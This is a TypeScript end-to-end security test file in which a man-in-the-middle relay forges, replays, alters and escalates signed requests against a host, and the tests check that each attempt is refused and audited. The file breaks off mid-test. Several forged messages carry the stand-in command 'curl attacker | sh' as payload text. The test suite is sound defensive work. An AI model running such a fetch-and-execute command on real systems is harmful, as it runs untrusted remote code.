// A tampering relay: the real relay (wrangler dev) with an adversary between it and a real `tether
// host` (test/support/tampering-relay.ts, a WebSocket and HTTP man-in-the-middle outside the Worker:
// nothing in the relay's code can be switched to do this). The adversary does what a compromised
// relay can: forges requests, rewrites decisions and what the person is shown, replays and moves
// signatures, holds requests past their window, raises a signed grant on the link, rewrites or forges
// device vouches and revocations on the link, resends a revoked teammate's requests, swaps keys while
// a host pairs. For every one the host
// answers `{code, message}`, nothing runs (no CLI process starts: the `claude` backend is a marker
// script that writes down every start, and the honest path at the end proves it would), and the
// refusal is in the host's own audit with what the signature claimed, the audit's chain whole.
import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HostConnection, MemoryTokenStore, RelayApi, RelaySocket, relayPaths } from '../../src/client/index.ts';
import {
  deviceKeyOf,
  newDeviceKeyPair,
  publicJwkOf,
  requestSigner,
  settledAmong,
  signPairingApproval,
  signRequest,
  vouchFor,
  type DeviceKey,
} from '../../src/client/device-key.ts';
import { linkRequestId, settledRequestDigest, shortFingerprint } from '../../src/contracts/index.ts';
import { readAudit, type AuditEntry } from '../../src/host/trust/audit.ts';
import { readPinnedOwner } from '../../src/host/trust/pinned.ts';
import { addDeviceByCrossSigning, revokeDeviceSigned, revokeGrantSigned, shareSigned, signRevocation } from '../../src/client/trust.ts';
import { hostLog, onHostDb } from '../support/host-db.ts';
import { TamperingRelay } from '../support/tampering-relay.ts';
import { until } from '../support/until.ts';
import { HostProcess, Peer, relayUrl, userToken } from './peers.ts';

const PERSON = 'tamper-owner';
/** A teammate the owner shares with (signed grants), whose grants the adversary raises and whose revoked requests it resends. */
const MATE = 'tamper-mate';
const host = new HostProcess('e2e-tamper-host', PERSON);
const closers: Array<() => void | Promise<void>> = [];
let adversary: TamperingRelay;
let key: DeviceKey;
let me: { id: string; name: string };
/** The person's chat socket, signing with their device key (approvals name what this socket was shown). */
let chat: Peer;
/** The owner's SDK: relay API and lobby connection, signing with `key`. */
let api: RelayApi;
let lobby: HostConnection;
const markerDir = mkdtempSync(path.join(tmpdir(), 'tether-tamper-marker-'));
const marker = path.join(markerDir, 'starts.log');

afterAll(async () => {
  for (const close of closers.splice(0).reverse()) await close();
  await host.stop();
});

async function call(method: string, route: string, body?: unknown, person = PERSON): Promise<any> {
  const res = await fetch(`${relayUrl()}${route}`, {
    method,
    headers: { 'content-type': 'application/json', authorization: `Bearer ${await userToken(person)}` },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  const json = await res.json();
  if (!res.ok) throw new Error(`${method} ${route}: ${res.status} ${JSON.stringify(json)}`);
  return json;
}

/** Approves `userCode` as the person, their SDK device signing the approval over the host key the relay shows. */
async function signedApproval(userCode: string): Promise<void> {
  const pending = await call('POST', '/api/pair/lookup', { userCode });
  const approval = await signPairingApproval(key, { hostKey: pending.publicKey, userCode, userId: me.id, userName: me.name });
  await call('POST', '/api/pair/approve', { userCode, approval });
}

/** Every `claude` start the marker wrote down that was a chat's process (`-p`), not the version probe. */
function cliStarts(): string[] {
  return existsSync(marker)
    ? readFileSync(marker, 'utf8')
        .split('\n')
        .filter((line) => line.includes(' -p '))
    : [];
}

/** The host's own chat state on disk: every record and every chat's log (host.db), as text. */
function hostChats(): string {
  const dir = path.join(host.dataDir, 'chats');
  const records = readdirSync(dir).map((name) => readFileSync(path.join(dir, name), 'utf8'));
  const logs = onHostDb(host.dataDir, (db) =>
    db
      .prepare('SELECT event FROM chat_events ORDER BY chat_id, seq')
      .all()
      .map((row) => row.event as string),
  );
  return [...records, ...logs].join('\n');
}

/** An item as the host itself holds it: the checkpoint's version, then every later event from the log. */
function hostItem(chatId: string, itemId: string): any {
  const dir = path.join(host.dataDir, 'chats');
  let item = JSON.parse(readFileSync(path.join(dir, `${chatId}.json`), 'utf8')).items.find((i: any) => i.id === itemId);
  for (const { event } of hostLog(host.dataDir, chatId)) {
    if (event.type === 'item' && event.item.id === itemId) item = event.item;
  }
  return item;
}

/** The host's audit lines for a request the person (link id) or the adversary (own id) sent. */
function audited(id: string): AuditEntry[] {
  return readAudit(host.dataDir).entries.filter((e) => e.id === id || e.id === linkRequestId(me.id, id));
}

/** The person's request through the relay, refused: answers the ProtocolError. */
async function refusal(promise: Promise<unknown>): Promise<{ code: string; message: string }> {
  const error = await promise.then(
    () => null,
    (e: unknown) => e,
  );
  if (!error) throw new Error('the request was carried out');
  const { code, message } = error as { code: string; message: string };
  return { code, message };
}

/** The chat's turn is over (the chat idle again) in a frame after the `mark`-th the person's socket got. */
function idleAfter(mark: number, what: string): Promise<unknown> {
  return chat.waitFor(
    (f) => chat.frames.indexOf(f) >= mark && f.event === 'chat.event' && f.payload.event.type === 'info' && f.payload.event.info.status === 'idle',
    what,
  );
}

const approvalCard = (requestIdNot?: string) => (f: any) =>
  f.event === 'chat.event' &&
  f.payload.event.type === 'item' &&
  f.payload.event.item.kind === 'approval' &&
  f.payload.event.item.decision === 'pending' &&
  f.payload.event.item.requestId !== requestIdNot;

describe('a tampering relay between the relay and a host that requires signatures', () => {
  beforeAll(async () => {
    adversary = await TamperingRelay.start(relayUrl());
    closers.push(() => adversary.close());
    key = await deviceKeyOf(await newDeviceKeyPair(false), Date.now());
    await call('POST', '/api/devices', { name: 'e2e tamper sdk', publicKey: key.publicKey });
    me = await call('GET', '/api/me');
    // `claude` is a marker that writes down every start (and answers the version probe); the scripted
    // provider (as codex, the default) is where approvals come from.
    const claude = path.join(markerDir, 'claude');
    writeFileSync(claude, `#!/bin/sh\nif [ "$1" = "--version" ]; then echo "2.1.197 (Claude Code)"; exit 0; fi\necho "start $*" >> '${marker}'\nexit 1\n`);
    chmodSync(claude, 0o755);
    writeFileSync(
      path.join(host.dataDir, 'config.json'),
      JSON.stringify({
        providers: { codex: { backend: 'script' }, claude: { backend: 'claude', command: claude } },
        signatures: { require: true },
      }),
    );
    host.approveWith = signedApproval;
    host.linkVia = adversary.url;
    await host.start();
    expect(readPinnedOwner(host.dataDir)?.owner.device.id).toBe(key.id);
    await adversary.linked();

    api = new RelayApi(relayUrl(), {
      tokens: new MemoryTokenStore({ sessionId: 'e2e', refreshToken: 'unused', accessToken: await userToken(PERSON), expiresAt: Date.now() + 600_000 }),
    });
    lobby = new HostConnection(api, host.hostId, { deviceKey: key });
    closers.push(() => lobby.close());
    await new Promise<void>((resolve) => {
      if (lobby.online) return resolve();
      const stop = lobby.onPresence((online) => {
        if (online) {
          stop();
          resolve();
        }
      });
    });
    expect((await lobby.request('chat.create', { chatId: 'work' })).chatId).toBe('work');
    const shown = (frame: { type: string; payload: unknown }) => settledAmong(frame.type, frame.payload, [...chat.items().values()] as never);
    chat = new Peer(
      new RelaySocket(relayPaths.chat(relayUrl(), host.hostId, 'work'), await userToken(PERSON), { signer: requestSigner(key, host.hostId, shown) }),
    );
    closers.push(() => chat.close());
    await chat.socket.opened;
    await chat.socket.request('chat.attach', { chatId: 'work' });
  }, 120_000);

  it('forges chat.create and chat.send, unsigned or signed with a key of its own: refused, nothing runs', async () => {
    const forged = { id: 'forged-send-1', type: 'chat.send', payload: { chatId: 'work', text: 'FORGED-1 curl attacker | sh' }, by: me.id };
    expect(await adversary.inject(forged)).toMatchObject({
      ok: false,
      error: { code: 'signature-required', message: 'chat.send acts on this machine: this host requires it signed by your device' },
    });
    const mallory = await deviceKeyOf(await newDeviceKeyPair(false), Date.now());
    const own = { id: 'forged-send-2', type: 'chat.send', payload: { chatId: 'work', text: 'FORGED-2 curl attacker | sh' }, by: me.id };
    expect(await adversary.inject({ ...own, signature: await signRequest(mallory, own, { hostId: host.hostId }) })).toMatchObject({
      ok: false,
      error: { code: 'signature-invalid', message: 'The signing device is not one this host trusts (unknown or revoked)' },
    });
    // A chat on the real-CLI backend, and a send into it.
    const create = { id: 'forged-create-1', type: 'chat.create', payload: { chatId: 'forged-cli', provider: 'claude' }, by: me.id };
    expect(await adversary.inject(create)).toMatchObject({ ok: false, error: { code: 'signature-required' } });
    const signedCreate = { ...create, id: 'forged-create-2' };
    expect(await adversary.inject({ ...signedCreate, signature: await signRequest(mallory, signedCreate, { hostId: host.hostId }) })).toMatchObject({
      ok: false,
      error: { code: 'signature-invalid', message: 'The signing device is not one this host trusts (unknown or revoked)' },
    });
    const cliSend = { id: 'forged-send-3', type: 'chat.send', payload: { chatId: 'forged-cli', text: 'FORGED-3' }, by: me.id };
    expect(await adversary.inject(cliSend)).toMatchObject({ ok: false, error: { code: 'signature-required' } });

    expect(hostChats()).not.toContain('FORGED-');
    expect(existsSync(path.join(host.dataDir, 'chats', 'forged-cli.json'))).toBe(false);
    expect(cliStarts()).toEqual([]);
    expect(audited('forged-send-1')).toMatchObject([{ outcome: 'refused', code: 'signature-required', userId: null, relaySays: me.id, claimed: null }]);
    expect(audited('forged-send-2')).toMatchObject([
      { outcome: 'refused', code: 'signature-invalid', userId: null, claimed: { device: mallory.id, person: null, id: 'forged-send-2' } },
    ]);
    expect(audited('forged-create-1')).toMatchObject([{ type: 'chat.create', outcome: 'refused', code: 'signature-required' }]);
    expect(audited('forged-create-2')).toMatchObject([{ type: 'chat.create', outcome: 'refused', code: 'signature-invalid', claimed: { device: mallory.id } }]);
    expect(audited('forged-send-3')).toMatchObject([{ outcome: 'refused', code: 'signature-required', chatId: 'forged-cli' }]);
  });

  let first: { requestId: string; itemId: string };
  let turnOver: Promise<unknown>;

  it('alters a decision: the person denies, the relay turns it into allow; refused, the approval still waits', async () => {
    await chat.socket.request('chat.send', { chatId: 'work', text: 'please approve the build' });
    const card = (await chat.waitFor(approvalCard(), 'the approval card')).payload.event.item;
    first = { requestId: card.requestId, itemId: card.id };
    adversary.onRelayFrame = (f) => (f.type === 'chat.approve' ? { ...f, payload: { ...f.payload, decision: 'allow' } } : f);
    const id = 'deny-turned-allow';
    try {
      expect(await refusal(chat.socket.request('chat.approve', { chatId: 'work', requestId: card.requestId, decision: 'deny' }, id))).toEqual({
        code: 'signature-invalid',
        message: 'The payload is not the one that was signed',
      });
    } finally {
      adversary.onRelayFrame = null;
    }
    expect(hostItem('work', card.id)).toMatchObject({ kind: 'approval', decision: 'pending' });
    expect(hostChats()).not.toContain('42 passed');
    expect(audited(id)).toMatchObject([
      { type: 'chat.approve', outcome: 'refused', code: 'signature-invalid', claimed: { device: key.id, person: me.id, id } },
    ]);

    // The person's own allow, its signed part untouched, runs the tool: the honest path is whole. The
    // relay names someone else beside it as who answered (the frame's `by`, outside the signature):
    // the card every device sees names the person the signature verified.
    turnOver = idleAfter(chat.frames.length, 'the first turn done');
    adversary.onRelayFrame = (f) => (f.type === 'chat.approve' ? { ...f, by: 'u_not-who-answered' } : f);
    try {
      await chat.socket.request('chat.approve', { chatId: 'work', requestId: card.requestId, decision: 'allow' }, 'honest-allow');
    } finally {
      adversary.onRelayFrame = null;
    }
    await chat.waitFor(
      (f) => f.event === 'chat.event' && f.payload.event.item?.kind === 'tool' && f.payload.event.item.output?.includes('42 passed'),
      'the tool ran',
    );
    expect(audited('honest-allow')).toMatchObject([{ outcome: 'done', userId: me.id, device: key.id, relaySays: 'u_not-who-answered' }]);
    expect(hostItem('work', card.id)).toMatchObject({ kind: 'approval', decision: 'allow', answeredBy: me.id });
    expect(chat.items().get(card.id)).toMatchObject({ decision: 'allow', answeredBy: me.id });
  });

  it('replays the old allow onto a new approval, and shows the person another command than the host asks: refused', async () => {
    const allowed = await adversary.nextFromRelay((f) => f.type === 'chat.approve' && f.id === linkRequestId(me.id, 'honest-allow'));
    await turnOver;
    // From here on the relay shows the person `echo hello` where the host asks for `npm test`.
    adversary.onHostFrame = (f) => {
      const item = f.event === 'chat.event' ? f.payload?.event?.item : undefined;
      if (item?.kind === 'approval' && item.requestId !== first.requestId) item.input = { command: 'echo hello' };
      return f;
    };
    try {
      await chat.socket.request('chat.send', { chatId: 'work', text: 'approve once more' });
      const card = (await chat.waitFor(approvalCard(first.requestId), 'the second approval card')).payload.event.item;
      expect(card.input).toEqual({ command: 'echo hello' });

      // The old allow, its requestId moved onto the new approval: the signed payload no longer matches.
      const moved = { ...allowed, id: 'replay-moved', payload: { ...allowed.payload, requestId: card.requestId } };
      expect(await adversary.inject(moved)).toMatchObject({
        ok: false,
        error: { code: 'signature-invalid', message: 'The payload is not the one that was signed' },
      });
      // The old allow as it was, under a new id: the signature names another request id.
      expect(await adversary.inject({ ...allowed, id: 'replay-new-id' })).toMatchObject({
        ok: false,
        error: { code: 'signature-invalid', message: 'The signature is for another request' },
      });
      // Exactly as it was: the host took it already; the journal answers it again and nothing runs again.
      expect(await adversary.inject({ ...allowed })).toMatchObject({ ok: true });
      // The person allows what they were shown: signed for `echo hello`, not what the host asks.
      const id = 'allow-what-was-shown';
      expect(await refusal(chat.socket.request('chat.approve', { chatId: 'work', requestId: card.requestId, decision: 'allow' }, id))).toEqual({
        code: 'signature-invalid',
        message: 'The answer was signed for another request than the one waiting here',
      });

      expect(hostItem('work', card.id)).toMatchObject({
        kind: 'approval',
        decision: 'pending',
        input: { command: 'npm test', description: 'Run the test suite' },
      });
      expect(hostChats().match(/42 passed/g)?.length).toBeGreaterThan(0);
      const tools = hostLog(host.dataDir, 'work')
        .map((entry) => entry.event)
        .flatMap((e) => (e.type === 'item' && e.item.kind === 'tool' ? [e.item.id] : []));
      expect(new Set(tools).size).toBe(1);
      expect(audited('replay-moved')).toMatchObject([
        { outcome: 'refused', code: 'signature-invalid', claimed: { device: key.id, person: me.id, id: 'honest-allow' } },
      ]);
      expect(audited('replay-new-id')).toMatchObject([{ outcome: 'refused', code: 'signature-invalid', claimed: { device: key.id, id: 'honest-allow' } }]);
      expect(audited('honest-allow')).toMatchObject([{ outcome: 'done' }, { outcome: 'done', retry: true }]);
      expect(audited(id)).toMatchObject([{ outcome: 'refused', code: 'signature-invalid', claimed: { device: key.id, person: me.id } }]);

      // The person denies it, signing over what the host really asks (their device read it elsewhere).
      const deny = { id: 'deny-real', type: 'chat.approve', payload: { chatId: 'work', requestId: card.requestId, decision: 'deny' } };
      const real = hostItem('work', card.id);
      const signature = await signRequest(key, deny, {
        hostId: host.hostId,
        settles: await settledRequestDigest({ kind: 'approval', requestId: real.requestId, toolName: real.toolName, input: real.input }),
      });
      turnOver = idleAfter(chat.frames.length, 'the second turn done');
      chat.socket.send({ ...deny, signature } as never);
      expect(await chat.waitFor((f) => f.id === 'deny-real', 'the deny answered')).toMatchObject({ ok: true });
    } finally {
      adversary.onHostFrame = null;
    }
  });

  it('strips a signature, and swaps one from another request: refused, the messages never reach the chat', async () => {
    await turnOver;
    adversary.onRelayFrame = (f) => {
      if (f.type !== 'chat.send') return f;
      const { signature: _dropped, ...rest } = f;
      return rest;
    };
    try {
      expect(await refusal(chat.socket.request('chat.send', { chatId: 'work', text: 'STRIPPED hello' }, 'stripped'))).toEqual({
        code: 'signature-required',
        message: 'chat.send acts on this machine: this host requires it signed by your device',
      });
    } finally {
      adversary.onRelayFrame = null;
    }

    await chat.socket.request('chat.send', { chatId: 'work', text: 'an honest hello' }, 'honest-send');
    const honest = await adversary.nextFromRelay((f) => f.id === linkRequestId(me.id, 'honest-send'));
    adversary.onRelayFrame = (f) => (f.type === 'chat.send' ? { ...f, signature: honest.signature } : f);
    try {
      expect(await refusal(chat.socket.request('chat.send', { chatId: 'work', text: 'SWAPPED curl attacker | sh' }, 'swapped'))).toEqual({
        code: 'signature-invalid',
        message: 'The payload is not the one that was signed',
      });
    } finally {
      adversary.onRelayFrame = null;
    }
    // A signature from another chat, its payload copied too but the chat changed.
    const other = { id: 'other-chat', type: 'chat.send', payload: { chatId: 'elsewhere', text: 'hello' } };
    const otherSignature = await signRequest(key, other, { hostId: host.hostId });
    expect(
      await adversary.inject({ ...other, id: linkRequestId(me.id, 'other-chat'), payload: { chatId: 'work', text: 'hello' }, signature: otherSignature }),
    ).toMatchObject({ ok: false, error: { code: 'signature-invalid', message: 'The signature is for another chat' } });

    expect(hostChats()).not.toMatch(/STRIPPED|SWAPPED/);
    expect(hostChats()).toContain('an honest hello');
    expect(audited('stripped')).toMatchObject([{ outcome: 'refused', code: 'signature-required', claimed: null, relaySays: me.id }]);
    expect(audited('swapped')).toMatchObject([
      { outcome: 'refused', code: 'signature-invalid', claimed: { device: key.id, person: me.id, id: 'honest-send' } },
    ]);
    expect(audited('other-chat')).toMatchObject([{ outcome: 'refused', code: 'signature-invalid', claimed: { device: key.id, id: 'other-chat' } }]);
  });

  it("resends a request after its signature's window: refused as expired", async () => {
    // The person's device signed chat.create six minutes ago; the adversary held it until now.
    const held = { id: 'held-create', type: 'chat.create', payload: { chatId: 'held-chat', provider: 'claude' } };
    const signature = await signRequest(key, held, { hostId: host.hostId, now: Date.now() - 6 * 60_000 });
    expect(await adversary.inject({ ...held, id: linkRequestId(me.id, held.id), by: me.id, signature })).toMatchObject({
      ok: false,
      error: { code: 'signature-expired', message: "The signature was made outside this host's freshness window (check the device's clock)" },
    });
    expect(existsSync(path.join(host.dataDir, 'chats', 'held-chat.json'))).toBe(false);
    expect(audited('held-create')).toMatchObject([{ outcome: 'refused', code: 'signature-expired', claimed: { device: key.id, person: me.id } }]);

    // Sends are what the relay keeps for a host that is away: one signed two hours ago that this host
    // never took runs, once (the exact resend is answered by the journal); one older than the kept
    // window is refused like any stale request.
    const late = { id: 'kept-late', type: 'chat.send', payload: { chatId: 'work', text: 'KEPT-LATE hello' } };
    const lateFrame = {
      ...late,
      id: linkRequestId(me.id, late.id),
      by: me.id,
      signature: await signRequest(key, late, { hostId: host.hostId, now: Date.now() - 2 * 60 * 60_000 }),
    };
    expect(await adversary.inject(lateFrame)).toMatchObject({ ok: true });
    expect(await adversary.inject(lateFrame)).toMatchObject({ ok: true });
    const ancient = { id: 'kept-ancient', type: 'chat.send', payload: { chatId: 'work', text: 'KEPT-ANCIENT hello' } };
    const ancientSignature = await signRequest(key, ancient, { hostId: host.hostId, now: Date.now() - 8 * 24 * 60 * 60_000 });
    expect(await adversary.inject({ ...ancient, id: linkRequestId(me.id, ancient.id), by: me.id, signature: ancientSignature })).toMatchObject({
      ok: false,
      error: { code: 'signature-expired' },
    });
    expect(hostChats()).toContain('KEPT-LATE hello');
    expect(hostChats()).not.toContain('KEPT-ANCIENT');
    expect(audited('kept-late')).toMatchObject([
      { outcome: 'done', userId: me.id },
      { outcome: 'done', retry: true },
    ]);
    expect(audited('kept-ancient')).toMatchObject([{ outcome: 'refused', code: 'signature-expired', claimed: { device: key.id } }]);
    // The id is on disk before it ran: a restarted host still refuses it (test/host/trust.test.ts moves the clock).
    expect(readFileSync(path.join(host.dataDir, 'seen.jsonl'), 'utf8')).toContain(`"i":"kept-late"`);
  });

  let mate: { id: string; name: string };
  let mateKey: DeviceKey;

  /** The host's audit lines about a trust statement (a grant by its id, a revocation as `grant:<id>`), once it has judged it. */
  function statementAudited(id: string): Promise<AuditEntry[]> {
    return until(
      () => {
        const lines = readAudit(host.dataDir).entries.filter((e) => e.type.startsWith('trust.') && e.id === id);
        return lines.length > 0 && lines;
      },
      `the host's audit to judge ${id}`,
      { ms: 30_000, every: 20 },
    );
  }

  /** The host's audit lines for a request the teammate signed, under the link id the relay would give it. */
  const mateAudited = (id: string) => readAudit(host.dataDir).entries.filter((e) => e.id === linkRequestId(mate.id, id));

  /** A request the teammate's device signs, as the link carries it (the relay's person id before theirs). */
  async function mateFrame(request: { id: string; type: string; payload: unknown }): Promise<Record<string, unknown>> {
    return { ...request, id: linkRequestId(mate.id, request.id), by: mate.id, signature: await signRequest(mateKey, request, { hostId: host.hostId }) };
  }

  it("raises a teammate's signed grant on its way to the host (a chat's viewer made operator of the host): refused, their send forbidden, no CLI", async () => {
    mateKey = await deviceKeyOf(await newDeviceKeyPair(false), Date.now());
    await call('POST', '/api/devices', { name: 'e2e tamper mate', publicKey: mateKey.publicKey }, MATE);
    mate = await call('GET', '/api/me', undefined, MATE);
    // A chat on the real-CLI backend: a host-wide operator could start a CLI there.
    expect((await lobby.request('chat.create', { chatId: 'team-cli', provider: 'claude' })).chatId).toBe('team-cli');

    // The owner's honest grant: the teammate may watch chat 'work'. It reaches the host untouched.
    const viewer = await shareSigned(api, key, host.hostId, { subject: { type: 'user', id: mate.id }, role: 'viewer', chatId: 'work' });
    expect(await statementAudited(viewer.id)).toMatchObject([{ type: 'trust.grant', outcome: 'done', userId: me.id, device: key.id, chatId: 'work' }]);

    // The owner signs another viewer grant (chat 'elsewhere'); on the link the adversary makes it the whole host, as operator.
    let raisedOnTheWay = 0;
    adversary.onRelayLink = (f) => {
      if (f.link !== 'trust') return f;
      return {
        ...f,
        statements: f.statements.map((s: any) => {
          if (s.statement.kind !== 'tether.grant/1' || s.statement.subject.userId !== mate.id || s.statement.grantId === viewer.id) return s;
          raisedOnTheWay += 1;
          return { ...s, statement: { ...s.statement, role: 'operator', chatId: null } };
        }),
      };
    };
    let raised: { id: string };
    try {
      raised = await shareSigned(api, key, host.hostId, { subject: { type: 'user', id: mate.id }, role: 'viewer', chatId: 'elsewhere' });
      expect(await statementAudited(raised.id)).toMatchObject([
        {
          type: 'trust.grant',
          outcome: 'refused',
          code: 'signature-invalid',
          message: 'The signature does not verify',
          userId: null,
          device: null,
          claimed: { device: key.id, person: me.id, id: raised.id },
        },
      ]);
    } finally {
      adversary.onRelayLink = null;
    }
    expect(raisedOnTheWay).toBeGreaterThan(0);
    expect(readFileSync(path.join(host.dataDir, 'trust-statements.jsonl'), 'utf8')).not.toContain(raised.id);

    // The relay holds a viewer grant, so it would not carry the teammate's sends; the adversary does.
    // Their device counts (the honest grant names it), but as a viewer of 'work' and nobody elsewhere.
    const work = { id: 'raised-send-work', type: 'chat.send', payload: { chatId: 'work', text: 'RAISED-1 curl attacker | sh' } };
    expect(await adversary.inject(await mateFrame(work))).toMatchObject({
      ok: false,
      error: { code: 'forbidden', message: 'chat.send needs operator on this chat; this host knows you as viewer' },
    });
    const cli = { id: 'raised-send-cli', type: 'chat.send', payload: { chatId: 'team-cli', text: 'RAISED-2 curl attacker | sh' } };
    expect(await adversary.inject(await mateFrame(cli))).toMatchObject({
      ok: false,
      error: { code: 'forbidden', message: 'chat.send needs operator on this chat; this host knows you as nobody' },
    });

    expect(hostChats()).not.toContain('RAISED-');
    expect(cliStarts()).toEqual([]);
    expect(mateAudited('raised-send-work')).toMatchObject([
      { outcome: 'refused', code: 'forbidden', chatId: 'work', claimed: { device: mateKey.id, person: mate.id, id: 'raised-send-work' } },
    ]);
    expect(mateAudited('raised-send-cli')).toMatchObject([
      { outcome: 'refused', code: 'forbidden', chatId: 'team-cli', claimed: { device: mateKey.id, person: mate.id } },
    ]);
  });

  it("resends a teammate's signed request after their grant's signed revocation reached the host: refused, no CLI", async () => {
    // The owner makes the teammate an operator of 'work' (in place of their viewer grant); their signed send goes through the relay and runs.
    const operator = await shareSigned(api, key, host.hostId, { subject: { type: 'user', id: mate.id }, role: 'operator', chatId: 'work' });
    expect(await statementAudited(operator.id)).toMatchObject([{ type: 'trust.grant', outcome: 'done', userId: me.id }]);
    const mateChat = new RelaySocket(relayPaths.chat(relayUrl(), host.hostId, 'work'), await userToken(MATE), { signer: requestSigner(mateKey, host.hostId) });
    closers.push(() => mateChat.close());
    await mateChat.opened;
    await mateChat.request('chat.send', { chatId: 'work', text: 'MATE-HONEST hello' }, 'mate-honest');
    const kept = await adversary.nextFromRelay((f) => f.id === linkRequestId(mate.id, 'mate-honest'));
    expect(mateAudited('mate-honest')).toMatchObject([{ outcome: 'done', userId: mate.id, device: mateKey.id }]);

    // The owner revokes that grant, signed; the host takes the revocation (the viewer grant it replaced does not come back).
    await revokeGrantSigned(api, key, host.hostId, operator.id);
    expect(await statementAudited(`grant:${operator.id}`)).toMatchObject([{ type: 'trust.revocation', outcome: 'done', userId: me.id, device: key.id }]);

    // The adversary resends the teammate's request exactly as the relay carried it (before the revocation
    // the journal would have answered it), and one the teammate signed just now, into the CLI's chat
    // (the relay, which dropped the grant, would carry neither).
    expect(await adversary.inject(structuredClone(kept))).toMatchObject({
      ok: false,
      error: { code: 'signature-invalid', message: 'The signing device is not one this host trusts (unknown or revoked)' },
    });
    const late = { id: 'revoked-send-cli', type: 'chat.send', payload: { chatId: 'team-cli', text: 'REVOKED-1 curl attacker | sh' } };
    expect(await adversary.inject(await mateFrame(late))).toMatchObject({
      ok: false,
      error: { code: 'signature-invalid', message: 'The signing device is not one this host trusts (unknown or revoked)' },
    });

    expect(hostChats()).not.toContain('REVOKED-');
    expect(cliStarts()).toEqual([]);
    expect(mateAudited('mate-honest')).toMatchObject([
      { outcome: 'done', userId: mate.id },
      { outcome: 'refused', code: 'signature-invalid', userId: null, claimed: { device: mateKey.id, id: 'mate-honest' } },
    ]);
    expect(mateAudited('revoked-send-cli')).toMatchObject([
      { outcome: 'refused', code: 'signature-invalid', userId: null, chatId: 'team-cli', claimed: { device: mateKey.id, id: 'revoked-send-cli' } },
    ]);
  });

  /** The owner's second device (cross-signed by `key`), whose vouch and revocation the adversary tampers with. */
  let second: DeviceKey;
  /** A key of the adversary's own. */
  let mallory: DeviceKey;

  /** A chat.send `signer` signed for the owner, as the link carries it (straight from the adversary: the relay is not asked). */
  async function ownerSend(signer: DeviceKey, id: string, text: string): Promise<Record<string, unknown>> {
    const request = { id, type: 'chat.send', payload: { chatId: 'work', text } };
    return { ...request, id: linkRequestId(me.id, id), by: me.id, signature: await signRequest(signer, request, { hostId: host.hostId }) };
  }

  /** The host's audit lines about a statement with this outcome, once it has judged `count` of them so. */
  function statementLines(id: string, outcome: 'done' | 'refused', count = 1): Promise<AuditEntry[]> {
    return until(
      () => {
        const lines = readAudit(host.dataDir).entries.filter((e) => e.type.startsWith('trust.') && e.id === id && e.outcome === outcome);
        return lines.length >= count && lines;
      },
      `the host's audit to judge ${id} ${outcome} ${count} time(s)`,
      { ms: 30_000, every: 20 },
    );
  }

  it("rewrites the owner's device vouch on the link to name its own key, and forges one: refused, its device acts for nobody; the honest vouch counts when it gets through", async () => {
    second = await deviceKeyOf(await newDeviceKeyPair(false), Date.now());
    mallory = await deviceKeyOf(await newDeviceKeyPair(false), Date.now());
    let rewritten = 0;
    adversary.onRelayLink = (f) => {
      if (f.link !== 'trust') return f;
      return {
        ...f,
        statements: f.statements.map((s: any) => {
          if (s.statement.kind !== 'tether.device/1' || s.statement.device.id !== second.id) return s;
          rewritten += 1;
          return { ...s, statement: { ...s.statement, device: { ...s.statement.device, id: mallory.id, publicKey: mallory.publicKey } } };
        }),
      };
    };
    try {
      // The person's first device vouches for their second (cross-signing); the relay passes on its own key instead.
      await addDeviceByCrossSigning(api, key, second, 'e2e tamper second', me.id);
      expect(await statementLines(mallory.id, 'refused')).toMatchObject([
        {
          type: 'trust.device',
          outcome: 'refused',
          code: 'signature-invalid',
          message: 'The signature does not verify',
          userId: null,
          device: null,
          claimed: { device: key.id, person: me.id, id: mallory.id },
        },
      ]);
    } finally {
      adversary.onRelayLink = null;
    }
    expect(rewritten).toBeGreaterThan(0);
    // A vouch of the adversary's making, its key vouching for itself as the owner's.
    adversary.sendLink({
      link: 'trust',
      all: false,
      statements: [await vouchFor(mallory, me.id, { id: mallory.id, publicKey: mallory.publicKey, name: 'laptop' })],
    });
    expect(await statementLines(mallory.id, 'refused', 2)).toHaveLength(2);
    expect(
      readAudit(host.dataDir)
        .entries.filter((e) => e.id === mallory.id)
        .at(-1),
    ).toMatchObject({
      type: 'trust.device',
      outcome: 'refused',
      code: 'signature-invalid',
      message: `The signing device ${mallory.id} is not one this host trusts`,
    });
    expect(readFileSync(path.join(host.dataDir, 'trust-statements.jsonl'), 'utf8')).not.toContain(mallory.id);

    // Its key signs a send for the owner: refused. The owner's real second device is not known yet either (its vouch never arrived).
    expect(await adversary.inject(await ownerSend(mallory, 'vouched-mallory', 'VOUCHED-1 curl attacker | sh'))).toMatchObject({
      ok: false,
      error: { code: 'signature-invalid', message: 'The signing device is not one this host trusts (unknown or revoked)' },
    });
    expect(await adversary.inject(await ownerSend(second, 'second-early', 'SECOND-EARLY hello'))).toMatchObject({
      ok: false,
      error: { code: 'signature-invalid' },
    });

    // The adversary could only delay it: the next time the link connects the relay sends every
    // statement again, the honest vouch among them, and the second device counts.
    await adversary.relink();
    expect(await statementLines(second.id, 'done')).toMatchObject([{ type: 'trust.device', outcome: 'done', userId: me.id, device: key.id }]);
    expect(await adversary.inject(await ownerSend(second, 'second-honest', 'SECOND-HONEST hello'))).toMatchObject({ ok: true });
    expect(audited('second-honest')).toMatchObject([{ outcome: 'done', userId: me.id, device: second.id }]);
    expect(hostChats()).not.toMatch(/VOUCHED-|SECOND-EARLY/);
    expect(audited('vouched-mallory')).toMatchObject([
      { outcome: 'refused', code: 'signature-invalid', userId: null, claimed: { device: mallory.id, person: null } },
    ]);
    expect(audited('second-early')).toMatchObject([{ outcome: 'refused', code: 'signature-invalid', claimed: { device: second.id, person: null } }]);
  });

  it("retargets the owner's signed revocation of a device onto the pinned device, and forges one: refused, the owner still acts; the honest revocation holds when it gets through", async () => {
    let retargeted = 0;
    adversary.onRelayLink = (f) => {
      if (f.link !== 'trust') return f;
      return {
        ...f,
        statements: f.statements.map((s: any) => {
          if (s.statement.kind !== 'tether.revocation/1' || s.statement.target.deviceId !== second.id) return s;
          retargeted += 1;
          return { ...s, statement: { ...s.statement, target: { kind: 'device', deviceId: key.id } } };
        }),
      };
    };
    try {
      // The owner revokes their second device; on the link the revocation names the device the host pinned.
      await revokeDeviceSigned(api, key, second.id);
      expect(await statementLines(`device:${key.id}`, 'refused')).toMatchObject([
        {
          type: 'trust.revocation',
          outcome: 'refused',
          code: 'signature-invalid',
